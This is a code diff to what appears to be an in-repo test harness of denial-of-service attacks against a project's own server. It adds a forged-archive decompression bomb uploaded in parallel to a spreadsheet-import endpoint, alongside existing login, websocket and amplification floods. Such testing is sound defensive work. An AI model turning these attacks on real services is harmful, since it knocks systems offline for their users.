@@ -1,8 +1,9 @@
 import { request } from 'node:http';
 import { connect } from 'node:net';
+import { forgeArchive } from '@server/imports/testing/forgeArchive';
 import { WebSocket } from 'ws';
 
-/** Whom an attack may act as. */
+/** The server that is attacked, and the account that an attack may use. */
 export interface Target {
   readonly url: string;
   readonly scheme: string;
@@ -10,10 +11,10 @@ export interface Target {
   readonly viewer: string;
 }
 
-/** Does its worst until `signal` aborts. */
+/** Attacks a server until `signal` aborts. */
 type Attack = (target: Target, signal: AbortSignal) => Promise<void>;
 
-/** Seven bytes, answered with nearly the whole scheme: the state since one change of client 200. */
+/** Requests the state since one change of client 200: seven bytes, answered with nearly the whole scheme. */
 const ASK_STATE = Uint8Array.of(0, 0, 4, 1, 0xc8, 1, 0);
 const WORKERS = 20;
 
@@ -41,6 +42,23 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
         body: Buffer.from(`username=nguoi-${n % 300}&password=sai-mat-khau`),
       });
     });
+  },
+  V9_hiddenParts: async ({ url, scheme, viewer }, signal) => {
+    // A part of 200 MB that packs to 200 kB, and a directory that says it is empty.
+    const data = new Uint8Array(200_000_000);
+    const central = { flags: 8, packedSize: 0, size: 0, crc: 0 };
+    const body = forgeArchive([{ name: 'xl/sharedStrings.xml', data, local: { flags: 8 }, central }]);
+    await repeat(WORKERS, signal, () =>
+      send(url, `/schemes/${scheme}/imports/sheets?name=a.xlsx`, {
+        headers: {
+          cookie: viewer,
+          origin: url,
+          'content-type': 'application/octet-stream',
+          'content-length': body.length,
+        },
+        body,
+      }),
+    );
   },
   V11_workbooks: async ({ url, scheme, viewer }, signal) => {
     await repeat(40, signal, () =>
@@ -75,7 +93,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   },
 };
 
-/** Sockets of the viewer that each send `count` frames at once, and open again when they are closed. */
+/** Opens sockets as the viewer. Each sends `count` frames at once, and is opened again when it was closed. */
 function floodSockets(sockets: number, count: number, frame: (i: number) => Uint8Array): Attack {
   return async ({ url, scheme, viewer }, signal) => {
     await repeat(sockets, signal, async () => {
@@ -131,7 +149,7 @@ function send(url: string, path: string, { method = 'POST', headers, body }: Sen
   });
 }
 
-/** `workers` times at once, again and again. */
+/** Repeats an act in `workers` parallel loops until `signal` aborts. */
 async function repeat(workers: number, signal: AbortSignal, act: () => Promise<void>): Promise<void> {
   const work = async () => {
     while (!signal.aborted) await Promise.race([act(), aborted(signal)]);
